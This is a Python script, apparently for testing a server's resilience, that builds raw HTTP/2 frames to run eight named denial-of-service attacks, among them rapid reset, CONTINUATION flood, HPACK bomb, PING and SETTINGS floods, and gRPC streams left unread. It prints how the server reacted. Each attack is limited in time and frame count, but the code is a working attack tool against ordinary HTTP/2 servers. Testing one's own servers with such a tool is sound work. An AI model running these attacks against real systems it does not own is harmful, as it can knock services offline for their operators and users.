"""HTTP/2 abuse over raw frames (hyperframe + hpack, from PyPI's h2).

Usage: h2_abuse.py ATTACK HOST:PORT [COUNT]

Every attack is bounded in frames and in time (at most ~10 s) and prints one
JSON object: what it sent and how the server reacted.

  sent       frames sent before the end or the server stopped it
  throttled  a send blocked for 2 s: the server stopped reading (backpressure)
  closed     the server closed the connection
  goaway     the GOAWAY error code received, if any (11 = ENHANCE_YOUR_CALM)
  resets     RST_STREAM frames received
  responses  response HEADERS received
  seconds    how long the attack ran
  error      the client-side error that ended it, if any
"""

import json
import socket
import struct
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
TIME_LIMIT = 10.0
SEND_STALL = 2.0


class Conn:
    def __init__(self, addr, read=True):
        host, port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=SEND_STALL)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self.sent = 0
        self.throttled = False
        self.closed = False
        self.goaway = None
        self.resets = 0
        self.responses = 0
        self.error = None
        self.started = time.monotonic()
        self.send(PREFACE + SettingsFrame(0).serialize(), frames=0)
        self.reader = None
        if read:
            self.reader = threading.Thread(target=self.read_all, daemon=True)
            self.reader.start()

    def elapsed(self):
        return time.monotonic() - self.started

    def live(self):
        return not (self.closed or self.throttled) and self.elapsed() < TIME_LIMIT

    def send(self, data, frames=1):
        if not self.live():
            return False
        try:
            self.sock.sendall(data)
            self.sent += frames
            return True
        except socket.timeout:
            self.throttled = True
        except OSError as err:
            self.closed = True
            self.error = repr(err)
        return False

    def read_exact(self, n):
        data = b""
        while len(data) < n:
            chunk = self.sock.recv(n - len(data))
            if not chunk:
                raise EOFError
            data += chunk
        return data

    def read_all(self):
        self.sock.settimeout(TIME_LIMIT + 5)
        try:
            while True:
                frame, length = Frame.parse_frame_header(memoryview(self.read_exact(9)))
                body = self.read_exact(length)
                frame.parse_body(memoryview(body))
                if isinstance(frame, GoAwayFrame):
                    self.goaway = frame.error_code
                elif isinstance(frame, RstStreamFrame):
                    self.resets += 1
                elif isinstance(frame, HeadersFrame):
                    self.responses += 1
        except socket.timeout:
            pass
        except (EOFError, OSError):
            self.closed = True
        except Exception as err:  # a frame hyperframe cannot parse
            self.error = repr(err)

    def headers(self, stream, headers, end_stream=True, end_headers=True):
        frame = HeadersFrame(stream)
        frame.data = self.encoder.encode(headers)
        frame.flags.add("END_HEADERS") if end_headers else None
        frame.flags.add("END_STREAM") if end_stream else None
        return frame.serialize()

    def finish(self):
        """Waits up to 3 s for the server to close, then reports."""
        if self.reader is None:
            self.sock.settimeout(0.2)
            deadline = time.monotonic() + 3
            try:
                while time.monotonic() < deadline:
                    if not self.sock.recv(65536):
                        self.closed = True
                        break
            except OSError:
                pass
        else:
            self.reader.join(3)
        report = {
            "sent": self.sent,
            "throttled": self.throttled,
            "closed": self.closed,
            "goaway": self.goaway,
            "resets": self.resets,
            "responses": self.responses,
            "seconds": round(self.elapsed(), 3),
            "error": self.error,
        }
        self.sock.close()
        return report


def request(path, method="GET", content_type=None):
    headers = [
        (":method", method),
        (":scheme", "http"),
        (":authority", "abuse"),
        (":path", path),
    ]
    if content_type:
        headers += [("content-type", content_type), ("te", "trailers")]
    return headers


def rapid_reset(conn, count):
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream."""
    for i in range(count):
        stream = 2 * i + 1
        data = conn.headers(stream, request("/slow?ms=1000"))
        data += RstStreamFrame(stream, error_code=8).serialize()
        if not conn.send(data, frames=2):
            break


def made_you_reset(conn, count):
    """Streams the server itself must reset: each request carries a
    connection-specific header, which makes it malformed in HTTP/2 (a stream
    error the server answers with RST_STREAM)."""
    for i in range(count):
        stream = 2 * i + 1
        headers = request("/health/live") + [("connection", "keep-alive")]
        if not conn.send(conn.headers(stream, headers)):
            break


def continuation_flood(conn, count):
    """One HEADERS without END_HEADERS, then CONTINUATION frames forever."""
    conn.send(conn.headers(1, request("/echo", "POST"), end_headers=False))
    junk = conn.encoder.encode([("x-flood", "a" * 1000)] * 15)
    for _ in range(count):
        frame = ContinuationFrame(1)
        frame.data = junk
        if not conn.send(frame.serialize()):
            break


def hpack_bomb(conn, count):
    """A 4 KB header stored once in the HPACK table, then referenced by one
    byte each: a few KB on the wire decode to megabytes."""
    big = "b" * 4000
    for i in range(count):
        stream = 2 * i + 1
        headers = request("/health/live") + [("x-bomb", big)] * 1000
        if not conn.send(conn.headers(stream, headers)):
            break


def ping_flood(conn, count):
    """PINGs, never reading the PONGs."""
    ping = PingFrame(0)
    ping.opaque_data = b"12345678"
    batch = ping.serialize() * 100
    for _ in range(count // 100):
        if not conn.send(batch, frames=100):
            break


def settings_flood(conn, count):
    """SETTINGS frames, never reading the ACKs."""
    settings = SettingsFrame(0)
    settings.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
    batch = settings.serialize() * 100
    for _ in range(count // 100):
        if not conn.send(batch, frames=100):
            break


def empty_frames(conn, count):
    """Empty DATA frames on one open request stream."""
    conn.send(conn.headers(1, request("/echo", "POST"), end_stream=False))
    batch = DataFrame(1).serialize() * 100
    for _ in range(count // 100):
        if not conn.send(batch, frames=100):
            break


def no_read(conn, count):
    """Server streams of 16 KB messages that the client never reads."""
    payload = b"p" * 16384
    message = b"\x10\xff\xff\xff\xff\x0f" + b"\x22\x80\x80\x01" + payload
    body = b"\x00" + struct.pack(">I", len(message)) + message
    for i in range(count):
        stream = 2 * i + 1
        data = conn.headers(
            stream,
            request("/shop.echo.v1.Echo/EchoStream", "POST", "application/grpc"),
            end_stream=False,
        )
        frame = DataFrame(stream)
        frame.data = body
        frame.flags.add("END_STREAM")
        if not conn.send(data + frame.serialize(), frames=2):
            break
    # Hold the streams open, reading nothing, for a while.
    time.sleep(3)


ATTACKS = {
    "rapid-reset": (rapid_reset, True),
    "made-you-reset": (made_you_reset, True),
    "continuation-flood": (continuation_flood, True),
    "hpack-bomb": (hpack_bomb, True),
    "ping-flood": (ping_flood, False),
    "settings-flood": (settings_flood, False),
    "empty-frames": (empty_frames, True),
    "no-read": (no_read, False),
}


def main():
    attack, addr = sys.argv[1], sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 10000
    run, read = ATTACKS[attack]
    conn = Conn(addr, read=read)
    run(conn, count)
    print(json.dumps(conn.finish()))


if __name__ == "__main__":
    main()
